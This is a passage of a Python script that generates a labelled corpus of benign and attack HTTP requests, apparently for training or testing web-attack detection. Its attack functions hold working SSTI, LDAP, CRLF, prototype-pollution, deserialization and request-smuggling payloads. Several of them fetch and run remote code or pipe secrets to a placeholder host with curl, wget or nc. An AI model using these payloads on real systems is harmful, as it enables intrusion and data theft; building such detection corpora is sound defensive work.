    ap(r, c, "kml", GEO_HOSTS[4], "/v1/import/kml", kml2, "application/xml", ua=r.choice(GIS_CLIENTS))
    xlsx_like = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE x [ <!ENTITY % p SYSTEM "ftp://203.0.113.9:2121/x"> %p; ]>\n'
                 '<fleet><vehicle id="trk-00917"/></fleet>\n')
    ap(r, c, "fleet-import", IOT_HOSTS[0], "/v1/fleet/import", xlsx_like, "application/xml")


def a_ssti(r):
    c = "ssti"
    tmpls = [
        ("push", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        ("push", "Hi {{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
        ("push", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('cat /etc/passwd').read() }}{% endif %}{% endfor %}"),
        ("push", "{{ lipsum.__globals__.os.popen('curl http://203.0.113.9/x|sh').read() }}"),
        ("push", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')}}"),
        ("email", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
        ("email", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
        ("email", "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))$x"),
        ("sms", "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x"),
        ("sms", "<%= `cat /etc/passwd` %>"),
        ("sms", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
        ("sms", "${self.module.cache.util.os.system(\"id\")}"),
    ]
    for i, (ch, t) in enumerate(tmpls):
        ap(r, c, f"notify-{ch}", MOB_HOSTS[2], "/v1/notification-templates",
           jdump({"name": f"trail_alert_{i}", "channel": ch, "locale": "en", "title": "Trail update", "body": t}), ua=r.choice(BROWSERS))
    ap(r, c, "ha-template", IOT_HOSTS[4], "/api/template", jdump({"template": "{{ cycler.__init__.__globals__.os.popen('cat /config/secrets.yaml').read() }}"}),
       ua="python-requests/2.32.3", auth="Bearer " + jwt(r))
    ap(r, c, "smarty", GAME_HOSTS[0], "/legacy/profile.php", qs([("signature", "{system('cat /etc/passwd')}")], "form"), "application/x-www-form-urlencoded", ua=r.choice(BROWSERS), auth=None)
    ag(r, c, "deeplink", MOB_HOSTS[5], "/", [("link", "https://trailmate.app/trail/1"), ("st", "{{7*'7'}}{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}")], accept="text/html")
    ap(r, c, "handlebars", MEDIA_HOSTS[3], "/v1/jobs", jdump({"input": "in.mp4", "output_name": "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"}))


def a_ldapi(r):
    c = "ldapi"
    gh = GAME_HOSTS[0]
    ap(r, c, "login", IOT_HOSTS[1], "/api/v1/login", qs([("user", "*)(uid=*))(|(uid=*"), ("pass", "x")], "form"), "application/x-www-form-urlencoded", ua=r.choice(BROWSERS), auth=None)
    ap(r, c, "login", IOT_HOSTS[4], "/auth/login_flow/ldap", jdump({"username": "admin)(&)", "password": "anything"}), ua=r.choice(BROWSERS), auth=None)
    ag(r, c, "directory", IOT_HOSTS[1], "/api/v1/operators", [("cn", "*)(objectClass=*")], auth="bearer")
    ag(r, c, "directory", IOT_HOSTS[1], "/api/v1/operators", [("mail", "x*)(|(userPassword=*)")], auth="bearer")
    ag(r, c, "directory", GEO_HOSTS[3], "/geoserver/rest/security/usergroup/users", [("filter", "(|(cn=*)(memberOf=cn=ADMIN,ou=groups,dc=gis,dc=example))")], auth="bearer")
    ap(r, c, "login", gh, "/v2/account/authenticate/custom", jdump({"id": "player*)(|(objectclass=*))%00", "vars": {"realm": "eu"}}), ua=r.choice(GAMES), auth=None)
    ag(r, c, "device-lookup", IOT_HOSTS[0], "/v1/devices/lookup", [("serial", "SN-0042)(|(description=*secret*)")], ua="curl/8.5.0", auth="key")
    ag(r, c, "directory", MEDIA_HOSTS[1], "/v1/users/search", [("q", "admin*)(!(pwdAccountLockedTime=*))")], auth="bearer")
    ap(r, c, "login", MOB_HOSTS[0], "/v1/sso/ldap", qs([("username", "jdoe)(|(sAMAccountName=*)(cn=*"), ("password", "*")], "form"), "application/x-www-form-urlencoded", auth=None)
    ag(r, c, "directory", IOT_HOSTS[1], "/api/v1/groups", [("member", "uid=*,ou=people,dc=fleetgrid,dc=io)(uid=*")], auth="bearer")


def a_crlf(r):
    c = "crlf"
    dl = MOB_HOSTS[5]
    apath(r, c, "deeplink", dl, "/open?url=trailmate%3A%2F%2Ftrail%2F1%0d%0aSet-Cookie%3A%20session%3Dattacker123", accept="text/html")
    apath(r, c, "deeplink", dl, "/open?fallback=https%3A%2F%2Ftrailmate.app%0D%0ALocation%3A%20https%3A%2F%2Fevil.example%2F", accept="text/html")
    apath(r, c, "deeplink", dl, "/r/%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E", accept="text/html")
    apath(r, c, "deeplink", dl, "/open?next=/app%E5%98%8A%E5%98%8DSet-Cookie:%20sid=evil", accept="text/html")
    ag(r, c, "download", MEDIA_HOSTS[1], "/v1/videos/a1b2c3d4e5/download", [("filename", "clip.mp4\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>")])
    ag(r, c, "oauth", MOB_HOSTS[0], "/v1/oauth/callback", [("state", "x"), ("redirect_uri", "trailmate://auth\r\nX-Forwarded-Host: evil.example")])
    ag(r, c, "lang", GEO_HOSTS[5], "/search", [("q", "Dublin"), ("accept-language", "en\nSet-Cookie: admin=1")])
    ap(r, c, "webhook-header", IOT_HOSTS[0], "/v1/integrations/webhooks", jdump({"url": "https://hooks.example.com/x", "headers": {"X-Tag": "fleet\r\nAuthorization: Bearer stolen\r\n"}}))
    apath(r, c, "hls", MEDIA_HOSTS[0], "/hls/a1b2c3d4e5/master.m3u8?token=abc%0d%0aAccess-Control-Allow-Origin:%20*%0d%0aAccess-Control-Allow-Credentials:%20true",
          ua=r.choice(PLAYERS))
    apath(r, c, "utm", dl, "/?link=https%3A%2F%2Ftrailmate.app%2F&utm_source=x%250d%250aSet-Cookie:%2520promo=1", accept="text/html")


def a_generic(r):
    c = "generic"
    ap(r, c, "proto-pollution", IOT_HOSTS[6], "/things/esp32-aa02/shadow", jdump({"state": {"desired": {"__proto__": {"isAdmin": True, "shell": "/bin/sh"}}}}))
    ap(r, c, "proto-pollution", MOB_HOSTS[0], "/v1/me/settings", qs([("constructor[prototype][role]", "admin"), ("units", "metric")], "form"), "application/x-www-form-urlencoded")
    ag(r, c, "proto-pollution", GAME_HOSTS[2], "/v2/matches", [("label[__proto__][outputFunctionName]", "x;process.mainModule.require('child_process').execSync('id');s")], ua=r.choice(GAMES))
    ap(r, c, "node-serialize", IOT_HOSTS[5], "/api/alarm",
       jdump({"rce": "_$$ND_FUNC$$_function(){require('child_process').exec('wget http://203.0.113.9/n -O- | sh')}()"}), auth=None)
    ap(r, c, "pickle", IOT_HOSTS[0], "/v1/models/anomaly", "cos\nsystem\n(S'curl http://203.0.113.9/p | sh'\ntR.", "application/python-pickle", ua="python-requests/2.31.0")
    ap(r, c, "yaml", IOT_HOSTS[4], "/api/config/core/check_config", jdump({"yaml": "sensor: !!python/object/apply:os.system [\"cat /config/secrets.yaml | nc 203.0.113.9 80\"]"}), auth="Bearer " + jwt(r))
    ap(r, c, "ruby-yaml", MEDIA_HOSTS[3], "/v1/presets/import", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n      socket: &1 !ruby/object:Gem::RequestSet\n        sets: !ruby/object:Net::WriteAdapter\n          socket: !ruby/module 'Kernel'\n          method_id: :system\n        git_set: id\n      method_id: :resolve\n",
       "application/x-yaml", ua="python-requests/2.31.0")
    ap(r, c, "dotnet", GAME_HOSTS[0], "/v1/saves", jdump({"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework", "MethodName": "Start",
       "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib", "$values": ["cmd", "/c calc"]}, "ObjectInstance": {"$type": "System.Diagnostics.Process, System"}}), ua=r.choice(GAMES))
    ap(r, c, "ssjs", GAME_HOSTS[0], "/v1/workshop/mods/validate", jdump({"expr": "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')"}), ua=r.choice(GAMES))
    ap(r, c, "lua-sandbox", GAME_HOSTS[0], "/v2/rpc/eval_mod", jdump({"source": "return io.popen('cat /etc/passwd'):read('*a')"}), ua=r.choice(GAMES))


def a_protocol(r):
    c = "protocol"
    body = "0\r\n\r\nGET /admin/flows HTTP/1.1\r\nHost: nodered.lan:1880\r\nX-Ignore: x"
    add("attacks", c, "smuggling", "POST", "/ingest",
        headers(r, IOT_HOSTS[5], "curl/8.5.0", "*/*", "application/json") + [["Content-Length", str(len(body))], ["Transfer-Encoding", "chunked"]], body)
    body = "5c\r\nGPOST /v1/push/tokens HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n"
    add("attacks", c, "smuggling", "POST", "/v1/push/tokens",
        headers(r, MOB_HOSTS[2], "okhttp/4.12.0", "*/*", "application/json") + [["Content-Length", "4"], ["Transfer-Encoding", " chunked"]], body, auto_cl=False)
    b = jdump({"deviceId": "th-1"})
    add("attacks", c, "double-cl", "POST", "/v1/devices/th-1/telemetry",
        headers(r, IOT_HOSTS[0], "ESP32HTTPClient", "*/*", "application/json") + [["Content-Length", str(len(b))], ["Content-Length", "0"]], b, auto_cl=False)
    add("attacks", c, "te-obfuscated", "POST", "/v2/chat/messages",
        headers(r, GAME_HOSTS[1], r.choice(GAMES), "*/*", "application/json") + [["Transfer-Encoding", "xchunked"], ["Transfer-Encoding", "chunked"]],
        "14\r\n{\"content\":\"hello\"}\r\n0\r\n\r\n", auto_cl=False)
    add("attacks", c, "range-dos", "GET", "/hls/a1b2c3d4e5/720p/main.mp4",
        headers(r, MEDIA_HOSTS[0], "Lavf/61.1.100", "*/*", extra=[["Range", "bytes=0-," + ",".join(f"5-{i}" for i in range(1, 300))]]))
    add("attacks", c, "range-dos", "GET", "/v1/firmware/th-sensor-c3/2.3.1/image.bin",
        headers(r, IOT_HOSTS[3], "ESP32HTTPClient", "*/*", extra=[["Range", "bytes=" + ",".join(f"{i}-{i + 1}" for i in range(0, 1200, 3))]]))
    add("attacks", c, "header-injection", "GET", "/tiles/osm-bright/3/4/2.png",
        headers(r, GEO_HOSTS[0], "Mozilla/5.0", "image/png", extra=[["X-Forwarded-For", "127.0.0.1\r\nX-Original-URL: /admin"]]))
    add("attacks", c, "bad-cl", "POST", "/v1/jobs",
        headers(r, MEDIA_HOSTS[3], "Go-http-client/1.1", "*/*", "application/json") + [["Content-Length", "-1"]], "{\"input\":\"in.mp4\"}", auto_cl=False)


BENIGN = [b_tiles, b_wms, b_wfs, b_features, b_geocode, b_telemetry, b_mqtt_bridge, b_lwm2m, b_ota, b_shadow, b_smarthome,
          b_push, b_firebase, b_iap, b_deeplinks, b_analytics, b_profile, b_streaming, b_upload, b_transcode, b_subtitles,
          b_podcasts, b_images, b_gaming, d_dev_content]
ATTACKS = [a_sqli, a_nosqli, a_xss, a_lfi, a_rfi, a_rce, a_php, a_java, a_ssrf, a_xxe, a_ssti, a_ldapi, a_crlf, a_generic, a_protocol]


def build():
    for fn in BENIGN + ATTACKS:
        gen(fn)
    ids = [x["id"] for k in OUT for x in OUT[k]]
    assert len(ids) == len(set(ids)), "duplicate ids"


def main():
    if len(sys.argv) != 2 or sys.argv[1] not in ("attacks", "benign", "stats"):
        sys.exit("usage: corpus-geoiot.py attacks|benign|stats")
    build()
    if sys.argv[1] == "stats":
        for kind in ("attacks", "benign"):
            counts = {}
            for x in OUT[kind]:
                counts[x["category"]] = counts.get(x["category"], 0) + 1
            print(f"{kind}: {len(OUT[kind])}  " + ", ".join(f"{k} {v}" for k, v in sorted(counts.items(), key=lambda kv: (-kv[1], kv[0]))), file=sys.stderr)
        return
    out = sys.stdout
    for rec in OUT[sys.argv[1]]:
        out.write(json.dumps(rec, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
